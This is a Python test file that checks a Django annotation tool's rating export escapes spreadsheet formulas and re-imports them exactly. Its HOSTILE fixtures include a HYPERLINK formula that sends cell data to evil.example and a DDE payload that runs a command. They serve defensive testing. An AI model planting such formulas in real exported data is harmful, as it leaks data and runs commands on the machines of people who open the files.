from __future__ import annotations

import csv

import pytest
from django.core.management import call_command

from annotation.models import Rating

pytestmark = pytest.mark.django_db
HEADER = "trajectory_id,rubric,item,rater,source,score,reason\n"


@pytest.fixture
def ratings(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text(
        HEADER
        + "t1,legalworld16,LC.procedural_compliance,ann,human,8,complete\n"
        + 't1,legalworld16,judge.role_distinguishability,ann,human,6,"terse, formal"\n'
        + "t1,legalworld16,LC.procedural_compliance,judge-x,llm,7.5,\n"
        + "t2,legalworld16,LC.procedural_compliance,bo,human,9,fine\n"
    )
    call_command("import_ratings", str(path))


def test_the_long_export_re_imports_to_the_same_ratings(ratings, tmp_path):
    out = tmp_path / "long.csv"
    call_command("export_ratings", "--out", str(out))
    before = sorted(Rating.objects.values_list("trajectory_id", "item", "rater", "source", "score", "reason"))
    Rating.objects.all().delete()
    call_command("import_ratings", str(out))
    assert sorted(Rating.objects.values_list("trajectory_id", "item", "rater", "source", "score", "reason")) == before


def test_the_wide_export_has_one_row_per_rater_and_trajectory(ratings, tmp_path):
    out = tmp_path / "wide.csv"
    call_command("export_ratings", "--layout", "wide", "--out", str(out))
    rows = list(csv.DictReader(out.open()))
    assert [(row["trajectory_id"], row["rater_id"]) for row in rows] == [("t1", "ann"), ("t2", "bo")]
    ann = rows[0]
    assert ann["LC_procedural_compliance"] == "8" and ann["LC_procedural_compliance_reason"] == "complete"
    assert ann["judge_role_distinguishability_reason"] == "terse, formal" and ann["SIT_process_coherence"] == ""
    assert ann["status"] == "imported" and ann["case_id"] == "t1", "an imported study rates ids only"


# A rater's reason, a rater name and a judge name are typed by people and models: each of these
# would run as a formula in a spreadsheet. The last two genuinely start with a quote and a trigger.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1\r\nsecond line",
    "'=already quoted",
    "''@quoted twice",
]
# As written: a quote in front of every place a spreadsheet may start a cell with a formula
# (``legalsim.spreadsheet``), here after the tab and the carriage return too.
ESCAPED = ["'" + reason for reason in HOSTILE]
ESCAPED[4:6] = ["'\t'=1+1", "'\r'=1+1\r\nsecond line"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
JUDGE = '=HYPERLINK("http://evil.example","judge")'
ITEMS = ["LC.procedural_compliance", "LC.process_coherence", "CD_DD.procedural_compliance", "FIT.process_coherence"]


@pytest.fixture
def hostile():
    """Human reasons over two trajectories and raters, a judge named like a formula, and a
    pairwise answer of -1 (second preferred) with a reason that starts with -1."""
    for index, reason in enumerate(HOSTILE):
        rater = "ann" if index % 2 else "=bo"
        Rating.objects.create(
            rubric_id="legalworld16",
            trajectory_id=f"t{index % 2}",
            item=ITEMS[index // 2],
            rater=rater,
            source="human",
            score=index,
            reason=reason,
        )
    Rating.objects.create(
        rubric_id="legalworld16",
        trajectory_id="t0",
        item=ITEMS[0],
        rater=JUDGE,
        source="llm",
        score=7.5,
        reason="@judge says",
    )
    Rating.objects.create(
        rubric_id="simcourt30",
        trajectory_id="a|b",
        item="debate.attorney.clarity_of_defense_arguments",
        rater="ann",
        source="human",
        score=-1,
        reason="-1: the second is clearer",
    )


def stored() -> list[tuple]:
    return sorted(Rating.objects.values_list("rubric", "trajectory_id", "item", "rater", "source", "score", "reason"))


def written(path) -> list[list[str]]:
    """The cells as a spreadsheet would see them: no unescaping."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_the_long_export_writes_formulas_as_text_and_re_imports_them_exactly(hostile, tmp_path):
    before = stored()
    paths = [tmp_path / "long.csv", tmp_path / "pairwise.csv"]
    call_command("export_ratings", "--out", str(paths[0]))
    call_command("export_ratings", "--rubric", "simcourt30", "--out", str(paths[1]))
    header, *rows = written(paths[0])
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)], "no cell may start like a formula"
    reasons = {row[header.index("reason")] for row in rows}
    assert set(ESCAPED) <= reasons and "'@judge says" in reasons
    assert {row[header.index("rater")] for row in rows} == {"ann", "'=bo", "'" + JUDGE}
    (pairwise,) = written(paths[1])[1:]
    assert pairwise[-2:] == ["-1", "'-1: the second is clearer"], "the score stays a number, the reason is text"

    Rating.objects.all().delete()
    call_command("import_ratings", *map(str, paths))
    assert stored() == before


def test_the_wide_export_writes_formulas_as_text(hostile, tmp_path):
    out = tmp_path / "wide.csv"
    call_command("export_ratings", "--layout", "wide", "--out", str(out))
    header, *rows = written(out)
    assert not [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    reasons = {row[header.index(f"{item.replace('.', '_')}_reason")] for row in rows for item in ITEMS}
    assert reasons - {""} == set(ESCAPED)
    assert sorted(row[header.index("rater_id")] for row in rows) == ["'=bo", "ann"]
